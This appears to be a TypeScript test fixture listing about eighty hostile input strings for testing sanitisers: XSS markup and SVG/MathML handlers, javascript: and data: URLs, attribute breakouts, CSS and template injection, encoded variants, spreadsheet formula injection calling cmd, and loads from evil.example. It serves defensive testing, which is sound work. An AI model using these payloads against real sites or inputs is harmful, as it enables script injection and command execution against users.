// Texts that try to be something else: markup, addresses, styles, templates, formulas, or simply too much.

const HIT = "window.hit=1";

const MARKUP = [
  `<script>${HIT}</script>`,
  `<SCRIPT>${HIT}</SCRIPT >`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script src=data:text/javascript,${HIT}></script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src=x onerror='${HIT}'//`,
  `<img/src="x"/onerror="${HIT}">`,
  `<IMG SRC=x OnErRoR=${HIT}>`,
  `<img src=x:x onerror\t=\t${HIT}>`,
  `<body onload=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}></select>`,
  `<details open ontoggle=${HIT}><summary>x</summary></details>`,
  `<video><source onerror=${HIT}></video>`,
  `<audio src=x onerror=${HIT}></audio>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src=javascript:parent.hit=1></iframe>`,
  `<object data=javascript:parent.hit=1></object>`,
  `<embed src=javascript:parent.hit=1>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<link rel=stylesheet href=data:text/css,*{display:none}>`,
  `<style>*{display:none}</style>`,
  `<form action=javascript:${HIT}><button autofocus>x</button></form>`,
  `<div style=animation-name:x onanimationstart=${HIT}>`,
  `<template><img src=x onerror=${HIT}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<b hidden=until-found onbeforematch=${HIT}>x</b>`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<![CDATA[><img src=x onerror=${HIT}>]]>`,
  `<?xml version="1.0"?><x onload=${HIT}/>`,
];

const SVG = [
  `<svg onload=${HIT}>`,
  `<svg/onload=${HIT}//`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href=javascript:${HIT}><text>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
  `<svg><use href=data:image/svg+xml,<svg/onload=${HIT}>></svg>`,
  `<svg><set attributeName=onmouseover to=${HIT}></svg>`,
  `</svg><img src=x onerror=${HIT}>`,
  `<math><mtext><style><img src=x onerror=${HIT}></style></mtext></math>`,
  `<math href=javascript:${HIT}>x</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${HIT}>x</maction></math>`,
];

const ADDRESSES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  ` java\nscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `javascript://%0a${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>`,
  `vbscript:${HIT}`,
  `//evil.example/x.js`,
];

const BREAKOUTS = [
  `"><img src=x onerror=${HIT}>`,
  `'><img src=x onerror=${HIT}>`,
  `" autofocus onfocus="${HIT}`,
  `' autofocus onfocus='${HIT}`,
  "` onmouseover=`window.hit=1",
  `</title></style></textarea><b onmouseover=${HIT}>x`,
  `</figcaption></figure><script>${HIT}</script>`,
  `</text></svg><script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
];

const STYLES = [
  `expression(${HIT});background:url(javascript:${HIT})`,
  `red;background-image:url(//evil.example/x.png)`,
  `} * { display: none } {`,
  `@import '//evil.example/x.css';`,
  `var(--x);position:fixed;inset:0`,
];

const TEMPLATES = [
  `{{constructor.constructor('${HIT}')()}}`,
  "${window.hit=1}",
  `<%= ${HIT} %>`,
  `#{${HIT}}`,
  `%s %d %n %x $1 $& \\1`,
];

const ENTITIES = [
  "&lt;b&gt;&#60;b&#62;&amp;",
  "&#x3C;script&#x3E;window.hit=1&#x3C;/script&#x3E;",
  "%3Cscript%3Ewindow.hit=1%3C/script%3E",
  "\\u003cscript\\u003ewindow.hit=1",
  "\u{FF1C}script\u{FF1E}window.hit=1\u{FF1C}/script\u{FF1E}",
];

const ODD = [
  "\u0000<b>\ufeff</b>\u0000",
  "\u202egnp.exe\u202c \u2066x\u2069",
  `Z${"\u0351\u036b\u0343\u036a".repeat(40)}`,
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1-1\t\r\n-2",
  "__proto__",
  `<img src=x onerror=${HIT}>${"x".repeat(2 ** 16)}`,
];

/** Eighty and more. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...SVG,
  ...ADDRESSES,
  ...BREAKOUTS,
  ...STYLES,
  ...TEMPLATES,
  ...ENTITIES,
  ...ODD,
];
